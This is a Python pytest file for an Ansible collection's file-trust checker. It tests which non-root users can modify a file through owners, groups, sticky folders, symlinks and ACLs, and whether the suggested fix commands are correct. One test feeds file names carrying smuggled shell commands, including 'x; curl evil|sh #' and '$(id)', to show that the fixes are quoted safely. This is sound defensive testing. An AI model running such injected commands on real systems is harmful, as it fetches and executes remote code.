# Copyright: (c) 2026, tethys.channels contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Who besides root can change a file, with real files, owners, links and access control lists."""

from __future__ import annotations

import grp
import os
import pwd
import shlex
import shutil
import struct
import subprocess
import tempfile
from pathlib import Path
from typing import Any, Iterator

import pytest
from ansible_collections.tethys.channels.plugins.module_utils.server import trust
from ansible_collections.tethys.channels.plugins.module_utils.server.trust import (
    is_of_the_system,
    is_shared,
    who_can,
    writable_by_others,
)

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files to other users")

ALICE, BOB, GROUP = 33, 34, 33
EVERYBODY_BIT = 0o002


@pytest.fixture(autouse=True)
def accounts(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Two users, of whom bob is in alice's group, and a group without members."""
    users = [
        pwd.struct_passwd((name, "x", uid, gid, "", home, "/bin/sh"))
        for name, uid, gid, home in (
            ("root", 0, 0, "/root"),
            ("alice", 33, 33, "/home/alice"),
            ("bob", 34, 34, "/home/bob"),
            ("sync", 4, 0, "/bin"),
        )
    ]
    groups = [
        grp.struct_group((name, "x", gid, members))
        for name, gid, members in (("root", 0, []), ("alice", 33, ["bob"]), ("bob", 34, []), ("staff", 50, []))
    ]

    def one(rows: list[Any], number: int) -> Any:
        found = [row for row in rows if row[2] == number]
        if not found:
            raise KeyError(number)
        return found[0]

    (tmp_path / "group").write_text(
        "".join(f"{group[0]}:x:{group[2]}:\n" for group in groups) + "+\n", encoding="utf-8"
    )
    monkeypatch.setattr(trust, "LOCAL_GROUPS", str(tmp_path / "group"))
    groups.append(grp.struct_group(("domain users", "x", 70000, [])))
    monkeypatch.setattr(trust.pwd, "getpwall", lambda: users)
    monkeypatch.setattr(trust.pwd, "getpwuid", lambda uid: one(users, uid))
    monkeypatch.setattr(trust.grp, "getgrgid", lambda gid: one(groups, gid))


@pytest.fixture
def top() -> Iterator[Path]:
    """A folder all of whose ancestors are root's (pytest's own is below /tmp, which is sticky)."""
    folder = Path(tempfile.mkdtemp(dir="/var/lib"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder)


@pytest.fixture
def file(top: Path) -> Path:
    """A file of root's in a folder of root's."""
    path = top / "conf.d" / "asgi.conf"
    path.parent.mkdir()
    path.write_text("x", encoding="utf-8")
    return path


def acl(path: Path, *entries: tuple[int, int, int]) -> None:
    """Give a path an access control list with these entries besides the three of every file."""
    whole = [(1, 7, 0xFFFFFFFF), *entries, (4, 5, 0xFFFFFFFF), (0x10, 7, 0xFFFFFFFF), (0x20, 5, 0xFFFFFFFF)]
    raw = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in sorted(whole))
    os.setxattr(path, "system.posix_acl_access", raw)


def rows(path: Path) -> list[tuple[str, str]]:
    """Who can change it, as (the part, in words)."""
    return [(row["path"], who_can(row)) for row in writable_by_others(str(path))]


def fixes(path: Path) -> list[list[str]]:
    """The words of the commands."""
    return [shlex.split(row["fix"]) for row in writable_by_others(str(path))]


def test_a_file_of_roots_alone(file: Path) -> None:
    assert rows(file) == []
    assert rows(file.parent / "not there") == []
    assert rows(Path("/etc/passwd")) == []


def test_its_owner(file: Path) -> None:
    os.chown(file, ALICE, 0)
    assert rows(file) == [(str(file), "its owner alice")]
    assert fixes(file) == [["chown", "-h", "root", str(file)]]


def test_an_owner_without_a_name(file: Path) -> None:
    os.chown(file, 4711, 0)
    assert rows(file) == [(str(file), "its owner 4711")]


def test_a_folder_above_it(file: Path, top: Path) -> None:
    os.chown(top, BOB, BOB)
    assert rows(file) == [(str(top), "its owner bob")]
    # Who can make it, can say what is in it.
    assert rows(top / "gone" / "asgi.conf") == [(str(top), "its owner bob")]


def test_its_group_and_who_is_in_it(file: Path) -> None:
    os.chown(file, 0, GROUP)
    assert rows(file) == []
    file.chmod(0o664)
    assert rows(file) == [(str(file), "its group alice (alice, bob)")]
    assert fixes(file) == [["chmod", "g-w", str(file)]]


def test_a_group_without_members(file: Path) -> None:
    os.chown(file, 0, 50)
    file.chmod(0o664)
    assert rows(file) == []


def test_roots_own_group(file: Path) -> None:
    file.chmod(0o664)
    assert rows(file) == []


def test_the_group_of_the_owner_alone_is_told_once(file: Path) -> None:
    os.chown(file, BOB, BOB)
    file.chmod(0o664)
    assert rows(file) == [(str(file), "its owner bob")]


def test_everybody(file: Path) -> None:
    file.chmod(0o646)
    assert rows(file) == [(str(file), "every user")]
    assert fixes(file) == [["chmod", "o-w", str(file)]]


def test_a_sticky_folder_lets_nobody_exchange_what_is_in_it(top: Path) -> None:
    top.chmod(0o1777)
    (top / "conf").write_text("x", encoding="utf-8")
    assert rows(top / "conf") == []
    # But anyone can create a missing file, and what root takes whole.
    assert rows(top / "gone") == [(str(top), "every user")]
    assert rows(top) == [(str(top), "every user")]
    os.chown(top / "conf", ALICE, 0)
    assert rows(top / "conf") == [(str(top / "conf"), "its owner alice")]


def test_a_link_in_a_sticky_folder_is_its_owners(top: Path, file: Path) -> None:
    sticky = top / "sticky"
    sticky.mkdir()
    sticky.chmod(0o1777)
    (sticky / "link").symlink_to(file)
    assert rows(sticky / "link") == []
    os.chown(sticky / "link", ALICE, ALICE, follow_symlinks=False)
    assert rows(sticky / "link") == [(str(sticky / "link"), "its owner alice")]


def test_a_link_and_what_it_leads_to(top: Path, file: Path) -> None:
    home = top / "home of tethys"
    home.mkdir()
    (home / "nginx.conf").write_text("user", encoding="utf-8")
    os.chown(home, ALICE, ALICE)
    link = file.parent / "nginx.conf"
    link.symlink_to(home / "nginx.conf")
    assert rows(link) == [(str(home), "its owner alice")]
    [row] = writable_by_others(str(link))
    assert row["link"] == str(link)
    assert shlex.split(row["fix"]) == ["cp", "--remove-destination", str(home / "nginx.conf"), str(link)]
    subprocess.run(["sh", "-c", row["fix"]], check=True)
    assert rows(link) == []
    assert not link.is_symlink()
    assert link.read_text(encoding="utf-8") == "user"


def test_links_on_the_way_are_followed(top: Path, file: Path) -> None:
    theirs = top / "theirs"
    theirs.mkdir()
    (theirs / "back").symlink_to("../conf.d")
    (top / "way").symlink_to("theirs/back")
    assert rows(top / "way" / "asgi.conf") == []
    os.chown(theirs, BOB, BOB)
    assert rows(top / "way" / "asgi.conf") == [(str(theirs), "its owner bob")]
    # No one file takes the place of a link to a folder.
    assert fixes(top / "way" / "asgi.conf") == [[]]


def test_links_in_a_circle_end(top: Path) -> None:
    (top / "a").symlink_to("b")
    (top / "b").symlink_to("a")
    assert rows(top / "a") == []


def test_a_file_on_the_way_ends_it(file: Path) -> None:
    assert rows(file / "more") == []


def test_an_access_control_list(file: Path) -> None:
    acl(file, (2, 6, ALICE), (2, 4, BOB), (8, 6, GROUP))
    assert rows(file) == [(str(file), "by its ACL alice"), (str(file), "by its ACL the group alice (alice, bob)")]
    assert fixes(file) == [["setfacl", "-x", "u:alice", str(file)], ["setfacl", "-x", "g:alice", str(file)]]
    # Its mask, which is the mode's part of the group, takes the rights away.
    file.chmod(0o644)
    assert rows(file) == []


def test_a_list_that_lets_the_owning_group_read_only(file: Path) -> None:
    os.chown(file, 0, GROUP)
    acl(file, (2, 4, BOB))
    assert file.stat().st_mode & 0o020
    assert rows(file) == []


@pytest.mark.parametrize(("gid", "name"), [(70000, "domain users"), (70001, "70001")])
def test_a_group_of_a_directory_may_have_any_members(file: Path, gid: int, name: str) -> None:
    """SSSD lists neither the users of a domain nor those of its groups, unless it is set to enumerate."""
    os.chown(file, 0, gid)
    assert rows(file) == []
    file.chmod(0o664)
    assert rows(file) == [(str(file), f"its group {name} (users that /etc/group does not list)")]
    assert fixes(file) == [["chmod", "g-w", str(file)]]


def test_no_command_names_a_folder_of_the_system_or_a_home(monkeypatch: pytest.MonkeyPatch, top: Path) -> None:
    monkeypatch.setattr(trust, "SHARED_FOLDERS", (str(top),))
    top.chmod(0o777)
    assert fixes(top) == [[]]
    home = Path("/var/lib", top.name + ".home")
    home.mkdir()
    try:
        os.chown(home, ALICE, ALICE)
        alice = pwd.struct_passwd(("alice", "x", ALICE, ALICE, "", str(home), ""))
        monkeypatch.setattr(trust.pwd, "getpwall", lambda: [alice])
        assert fixes(home / "x") == [[]]
    finally:
        home.rmdir()


def test_ubuntus_folder_of_logs(monkeypatch: pytest.MonkeyPatch, file: Path) -> None:
    os.chown(file, 0, GROUP)
    file.chmod(0o664)
    monkeypatch.setattr(trust, "OF_THE_DISTRIBUTION", {(str(file), "alice")})
    assert rows(file) == []


@pytest.mark.parametrize("word", ["x; curl evil|sh #", "$(id)", "a\nb", "\x1b[2J", "'", "-h"])
def test_a_name_that_a_shell_would_obey(top: Path, word: str) -> None:
    path = top / word
    path.write_text("x", encoding="utf-8")
    os.chown(path, ALICE, 0)
    [row] = writable_by_others(str(path))
    assert row["fix"].isprintable()
    subprocess.run(["bash", "-c", row["fix"]], check=True)
    assert path.stat().st_uid == 0


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "//",
        "//etc",
        "/etc",
        "/etc/",
        "/etc/../etc/.",
        "/usr",
        "/usr/share",
        "/var",
        "/var/log",
        "/home",
        "/tmp",
        "/opt",
        "/srv",
        "/run",
        "/var/run",
        "/var/lib/",
    ],
)
def test_a_folder_that_the_system_shares(path: str) -> None:
    assert is_shared(path)
    assert is_of_the_system(path)


@pytest.mark.parametrize(
    "path", ["/var/lib/tethys", "/home/alice", "/opt/conda", "/srv/portal", "/var/log/tethys", "/run/tethys"]
)
def test_a_folder_of_somebodys_own(path: str) -> None:
    assert not is_shared(path)
    assert not is_of_the_system(path)


@pytest.mark.parametrize("path", ["/etc/cron.d", "/root/.ssh", "/usr/lib/x/y", "/dev/sda", "/boot/x"])
def test_a_file_of_the_systems_trees(path: str) -> None:
    assert is_of_the_system(path)
